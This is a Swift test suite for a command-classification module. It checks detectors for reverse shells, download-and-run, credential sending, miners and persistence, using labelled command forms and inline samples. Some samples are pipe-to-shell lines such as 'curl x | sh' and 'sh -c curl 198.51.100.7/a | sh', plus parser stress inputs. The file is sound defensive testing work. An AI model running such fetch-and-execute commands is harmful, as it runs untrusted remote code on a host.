import Foundation
import JSONView
import Testing

@testable import Rules

/// A line of `command-forms.tsv`.
struct CommandForm: CustomTestStringConvertible {
    var function: String
    var command: String
    var testDescription: String { "\(function): \(command)" }

    static let all: [CommandForm] = {
        let file = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "command-forms.tsv")
        let text = (try? String(contentsOf: file, encoding: .utf8)) ?? ""
        return text.split(separator: "\n").filter { !$0.hasPrefix("#") }.map { line in
            let parts = line.split(separator: "\t", maxSplits: 1).map(String.init)
            return CommandForm(function: parts[0], command: parts.count > 1 ? parts[1] : "")
        }
    }()
}

@Suite("Forms of commands")
struct CommandFormTests {
    private static let judges: [(name: String, judge: @Sendable (JSONText) -> Bool)] = [
        ("entersHost", EntersHost.judge), ("decodesAndRuns", DecodeAndRun.judge),
        ("downloadsAndRuns", DownloadAndRun.judge), ("looksLikeMiner", MinerShape.judge),
        ("writesPersistence", PersistenceWrite.judge), ("reverseShell", ReverseShell.judge),
        ("runsFetchedCode", FetchedCode.judge), ("runsFromMemory", MemoryExecution.judge),
        ("sendsCredentials", CredentialSend.judge),
        ("sendsFile", CredentialSend.sendsFile),
        ("opensReverseTunnel", ReverseTunnel.judge), ("deploysTakeover", HostileDeployment.judge),
    ]

    @Test("The file with the cases is there") func isThere() { #expect(CommandForm.all.count > 70) }

    @Test("Each form is told for what it is, and an ordinary command for none", arguments: CommandForm.all)
    func form(_ form: CommandForm) {
        form.command.withText { text in
            let said = Self.judges.filter { AssembledCommand.judge(text, $0.judge) }.map(\.name)
            if form.function == "none" {
                #expect(said.isEmpty)
            } else {
                #expect(said.contains(form.function))
                #expect(CommandSigns.maySay(text) && CommandJudgement.judge(text), "the quick no must not hide it")
            }
        }
    }

    @Test(
        "Values of a container's environment stand in their places",
        arguments: [
            ("sh -c $A$B 198.51.100.7/a | $C", "sh -c curl 198.51.100.7/a | sh"),
            ("sh -c $(A)$(B) x | ${C}", "sh -c curl x | sh"), ("sh -c $(D)", "sh -c curl x | sh"),
            ("echo $D", nil), ("sh -c $D", "sh -c curl x | sh"), ("app --port=$PORT", nil), ("$(E)", "curl y"),
        ])
    func environment(_ line: String, _ expected: String?) {
        let values = [("A", "cu"), ("B", "rl"), ("C", "sh"), ("D", "curl x | sh"), ("E", "$(A)rl y")]
        let made = line.withText { text in
            "\(values.map { "\($0.0)\u{0}\($0.1)" }.joined(separator: "\u{1}"))".withText { all in
                let variables = all.bytes.split(separator: 1).map { part in
                    let bytes = UnsafeBufferPointer(rebasing: part)
                    let whole = JSONText(start: bytes.baseAddress ?? all.start, count: bytes.count)
                    let end = whole.firstIndex(of: 0) ?? 0
                    return (name: whole.prefix(end), value: whole.dropFirst(end + 1))
                }
                return AssembledCommand.filled(text, from: variables).map { String(decoding: $0, as: UTF8.self) }
            }
        }
        #expect(made == expected)
    }

    @Test(
        "No script takes long or grows without bound",
        arguments: [
            String(repeating: "f(){ f; f; f; };", count: 3000) + String(repeating: "f;", count: 20_000) + "curl x | sh",
            String(repeating: "if a; then ", count: 5000) + "curl http://x/a"
                + String(repeating: "; fi | sh", count: 5000),
            String(repeating: "alias a=b; cp /bin/sh /k;", count: 5000) + "curl http://x/a | /k",
            String(repeating: "x=$(curl http://x/a); ", count: 5000) + "echo $y | sh",
            "curl {" + String(repeating: "a,", count: 60_000) + "} | sh", String(repeating: "${A:-${", count: 20_000),
            "curl " + String(repeating: "$(printf ", count: 20_000),
            "curl " + String(repeating: "$'\\x", count: 20_000),
            "A=" + String(repeating: "ab", count: 2000) + ";" + String(repeating: "${A//a/bb}", count: 10_000),
        ])
    func hostile(_ text: String) {
        text.withText { view in
            for (_, judge) in Self.judges { _ = AssembledCommand.judge(view, judge) }
            #expect((AssembledCommand.whole(view)?.count ?? 0) <= 256 << 10)
        }
    }
}
